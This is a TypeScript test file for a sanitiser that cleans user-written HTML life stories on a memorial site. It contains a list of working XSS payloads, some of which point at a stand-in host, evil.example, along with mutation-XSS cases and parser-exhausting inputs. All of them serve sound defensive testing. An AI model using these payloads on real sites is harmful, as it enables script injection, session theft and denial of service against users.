import { expect, test } from 'vitest'
import { memorials } from '#worker/schema/memorials.table.ts'
import { memorialOf } from '../../../../test/worker/harness.ts'
import { disallowedNodes } from '../../../../test/worker/hostile/story-allow-list.ts'
import { AppError } from '#shared/errors.ts'
import { messages } from '#shared/messages.ts'
import { readableLifeStory, sanitizeLifeStory } from '#worker/features/memorials/life-story.ts'
import { XSS_VECTORS } from '../../../../test/xss-vectors.ts'
import { changeRows } from '../../../../test/worker/rows.ts'
import { serverMessages } from '#worker/platform/server-messages.ts'

/** Unclosed tags with different attributes, because a parser reopens at most three identical ones. */
function leftOpen(count: number): string {
  return Array.from({ length: count }, (_, n) => `<b ${n}>`).join('')
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/api/auth/logout">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed" target="_blank" download ping="//e">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="root" name="body">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video><audio src onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><html onmouseover=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
  '<p><strong onpointerenter=alert(1)>x</p></strong><b><i>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

test.each(HOSTILE)('nothing outside the allow-list is left: %s', (payload) => {
  const clean = sanitizeLifeStory(`<p>Before</p>${payload}<p>After</p>`) ?? ''
  expect([clean.includes('Before'), disallowedNodes(clean)]).toEqual([true, []])
})

test('ordinary formatting is stored unchanged', async () => {
  const { owner, memorial } = await memorialOf()
  const story =
    '<h2>Growing up</h2><p>Born in <strong>Mutare</strong>, <em>loved</em> <u>music</u> &#x26; <s>maths</s>.<br>Two lines</p>' +
    '<h3>Family</h3><blockquote><p>Mhuri yese</p></blockquote><ul><li><p>Rudo</p></li></ul><ol><li>Farai 😀</li></ol>'
  const { body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory: story })
  expect(body.lifeStory).toBe(story)
})

test('word processor bold and italics become strong and em; links are made safe', () => {
  const clean = sanitizeLifeStory(
    '<p><b>a</b><i>b</i><a href="https://a.example/?x=1&amp;y=2" rel="opener" target="_blank">c</a><a href="mailto:rudo@family.test">d</a></p>',
  )
  expect(clean).toBe(
    '<p><strong>a</strong><em>b</em><a href="https://a.example/?x=1&#x26;y=2" rel="noopener nofollow ugc">c</a>' +
      '<a href="mailto:rudo@family.test" rel="noopener nofollow ugc">d</a></p>',
  )
})

test.each(['', '<p></p>', '<p> <br></p>', '<script>x</script>'])(
  'a story without text becomes null: %j',
  (story) => expect(sanitizeLifeStory(story)).toBeNull(),
)

test.each([
  ['50,001 characters of text', `<p>${'ä'.repeat(50_001)}</p>`],
  ['100,001 characters in all', `<p>x</p>${' '.repeat(100_001)}`],
  ['33 levels', `${'<blockquote>'.repeat(33)}x`],
  ['thousands of levels', `${'<blockquote>'.repeat(8000)}x`],
  // Each later paragraph reopens the unclosed elements with all their attributes.
  ['250,000 elements behind 40 KB', `<p>${leftOpen(25)}</p>${'<p>x'.repeat(10_000)}`],
  ['500 MB of addresses', `<p><a href="https://a.example/${'x'.repeat(50_000)}"></p>${'<p>x'.repeat(9000)}`],
])('a story with %s is refused, and the stored one is unchanged', async (_what, lifeStory) => {
  const { owner, memorial } = await memorialOf()
  await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory: '<p>Kept</p>' })
  const { status, body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
  expect([status, Object.keys(body.fields)]).toEqual([400, ['lifeStory']])
  expect((await owner.get(`/api/memorials/${memorial.id}`)).body.memorial.lifeStory).toBe('<p>Kept</p>')
})

test.each([
  ['50,001 characters of text', `<p>${'ä'.repeat(50_001)}</p>`, messages.memorial.storyTooLong],
  ['120,000 characters of text', 'x'.repeat(120_000), messages.memorial.storyTooLong],
  ['60,000 entities', '&amp;'.repeat(60_000), messages.memorial.storyTooLong],
  ['100,001 characters of markup', `<p>x${'<br>'.repeat(25_001)}</p>`, messages.memorial.storyTooMuchMarkup],
  ['20,000 long entities', `<p>${'&#x00026;'.repeat(20_000)}</p>`, messages.memorial.storyTooMuchMarkup],
  ['33 levels', `${'<blockquote>'.repeat(33)}x`, serverMessages.memorial.storyTooNested],
])('a story refused for %s says so', async (_what, lifeStory, message) => {
  const { owner, memorial } = await memorialOf()
  const { body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
  expect(body.fields).toEqual({ lifeStory: message })
})

test('exactly 50,000 characters of text and 32 levels are accepted', () => {
  for (const story of [`<p>${'ä'.repeat(50_000)}</p>`, `${'<blockquote>'.repeat(31)}<p>x`]) {
    expect(sanitizeLifeStory(story)).not.toBeNull()
  }
})

/** What is left when their outer elements are removed is parsed differently: mutation XSS begins so. */
const MUTATING = [
  ['<p>a<button><p>b</p></button>c</p>', '<p>a</p><p>b</p>c<p></p>'],
  ['<h2>a<button><h3>b</h3></button></h2>', '<h2>a</h2><h3>b</h3>'],
  [
    '<a href="https://a.example/">1<table><tr><td><a href="https://b.example/">2</a></table></a>',
    '<a href="https://a.example/" rel="noopener nofollow ugc">1</a><a href="https://b.example/" rel="noopener nofollow ugc">2</a>',
  ],
  ['<p>1<applet><p>2<marquee><p>3', '<p>1</p><p>2</p><p>3</p><p></p><p></p>'],
  [
    '<math><mtext><p>x<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">y',
    null,
  ],
] as const

test('a story is sanitised until it no longer changes', () => {
  for (const [story, expected] of MUTATING) {
    const clean = sanitizeLifeStory(`<p>Before</p>${story}`)
    expect(clean).toBe(`<p>Before</p>${expected ?? ''}`)
    expect(sanitizeLifeStory(clean ?? '')).toBe(clean)
  }
})

test('thousands of stories of misnested elements are stable, or refused', () => {
  const names =
    'p a b h2 h3 ul li blockquote table tr td caption button object applet marquee select option form strong em svg math mi mtext foreignObject desc font nobr br dl dd ruby rt'.split(
      ' ',
    )
  let seed = 7
  const pick = (count: number) => {
    seed = (seed * 48_271) % 0x7fff_ffff
    return seed % count
  }
  const element = () => {
    const name = names[pick(names.length)] ?? 'p'
    if (pick(10) > 5) return `</${name}>`
    return name === 'a' ? `<a href="https://${pick(3)}.example/">x` : `<${name}>x`
  }
  const unstable = Array.from({ length: 5000 }, () => Array.from({ length: 2 + pick(14) }, element).join(''))
    .map((story) => [story, sanitizeLifeStory(story)] as const)
    .filter(([, clean]) => clean !== null && sanitizeLifeStory(clean) !== clean)
  expect(unstable).toEqual([])
})

/** All vectors, joined into stories of 40, so that an element left open by one vector affects the next. */
const STORIES = Array.from({ length: Math.ceil(XSS_VECTORS.length / 40) }, (_, index) =>
  XSS_VECTORS.slice(index * 40, index * 40 + 40).join('\n'),
)

test('thousands of hostile stories are reduced to the allow-list and stay stable', () => {
  expect(XSS_VECTORS.length).toBeGreaterThan(3500)
  const wrong = XSS_VECTORS.concat(STORIES).flatMap((vector) => {
    const clean = sanitizeLifeStory(`<p>Before</p>${vector}`) ?? ''
    const problems = disallowedNodes(clean)
    if (!clean.startsWith('<p>Before')) problems.push('lost the text before it')
    if (sanitizeLifeStory(clean) !== clean) problems.push('changed when sanitised again')
    return problems.length > 0 ? [{ vector, clean, problems }] : []
  })
  expect(wrong).toEqual([])
})

test('hostile stories are stored as answered and never break the Worker', async () => {
  const { owner, memorial } = await memorialOf({ privacy: 'LOCKED' })
  const statuses = new Set<number>()
  for (const lifeStory of STORIES) {
    const { status, body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
    statuses.add(status)
    expect(disallowedNodes(body.lifeStory ?? '')).toEqual([])
  }
  expect([...statuses]).toEqual([200])
})

const HUGE: [string, string][] = [
  ['100,000 levels', '<b>'.repeat(100_000)],
  ['33,000 levels within the size', '<b>'.repeat(33_000)],
  ['33,000 levels of SVG', '<g>'.repeat(33_000)],
  ['6,000 levels of tables', '<table><tr><td>'.repeat(6000)],
  ['10,000 templates', '<template>'.repeat(9999)],
  ['10,000 misnested links', '<a><p><b>'.repeat(11_000)],
  ['100,000 attributes', `<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}`).join(' ')}>x`],
  [
    '16,000 attributes within the size',
    `<p ${Array.from({ length: 16_000 }, (_, n) => n.toString(36)).join(' ')}>x`,
  ],
  ['30,000 attributes left open', `<b ${'x '.repeat(30_000)}>${'<p>x'.repeat(9000)}`],
  ['one attribute of 99,000 characters', `<a href="https://a.example/${'x'.repeat(99_000)}">x</a>`],
  ['99,000 null characters', `<p>x${'\u0000'.repeat(99_000)}`],
  ['12,000 open comments', '<!--<p>x'.repeat(12_000)],
  ['99,000 brackets', '<'.repeat(99_000)],
  ['49,000 half entities', '&#'.repeat(49_000)],
  ['2,900 of the longest entity', '&CounterClockwiseContourIntegral;'.repeat(2900)],
  ['99,000 marks on one letter', `<p>a${'\u0301'.repeat(99_000)}`],
  ['12,000 characters that four bytes write', `<p>${'😀'.repeat(12_000)}`],
  ['511 KiB', `<p>${'x'.repeat(511 * 1024)}</p>`],
  ['over 512 KiB', `<p>${'x'.repeat(512 * 1024)}</p>`],
]

test.each(HUGE)('a story of %s is cleaned or refused, and the Worker survives', async (_what, lifeStory) => {
  const { owner, memorial } = await memorialOf()
  const { status, body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
  expect([200, 400, 413]).toContain(status)
  expect(disallowedNodes(body.lifeStory ?? '')).toEqual([])
  expect((await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory: '<p>After</p>' })).status).toBe(200)
})

test('a story stored by an older sanitiser is cleaned on every read', async () => {
  const { owner, memorial } = await memorialOf({ privacy: 'LOCKED' })
  const wrong = XSS_VECTORS.filter((vector) => disallowedNodes(readableLifeStory(vector, 0) ?? '').length > 0)
  expect(wrong).toEqual([])
  await changeRows(
    memorials,
    { id: memorial.id },
    { lifeStory: `<p onclick=alert(1)>x</p>${XSS_VECTORS.slice(0, 300).join('')}`, lifeStoryVersion: 1 },
  )
  const read = [
    (await owner.get(`/api/memorials/${memorial.id}`)).body.memorial.lifeStory,
    (await owner.get(`/api/memorial/${memorial.slug}`)).body.memorial.lifeStory,
    (await owner.get('/api/dashboard')).body.memorials[0].lifeStory,
  ]
  expect(read.map(disallowedNodes)).toEqual([[], [], []])
  expect(read.every((story: string) => story.startsWith('<p>x</p>'))).toBe(true)
})

test('a story has whole, composed characters and no invisible ones', () => {
  const bell = String.fromCharCode(7)
  expect(sanitizeLifeStory(`<p>a\u202eb\ud800<span>e</span>\u0301${bell}&#8238;&#7;&shy;c</p>`)).toBe(
    '<p>ab\ufffd\u00e9c</p>',
  )
  // Composing this mark with the character before it would change the bracket of a tag.
  expect(sanitizeLifeStory('<p>\u0338x</p>')).toBe('<p>\u0338x</p>')
  expect(() => sanitizeLifeStory('<b>'.repeat(33))).toThrow(AppError)
})
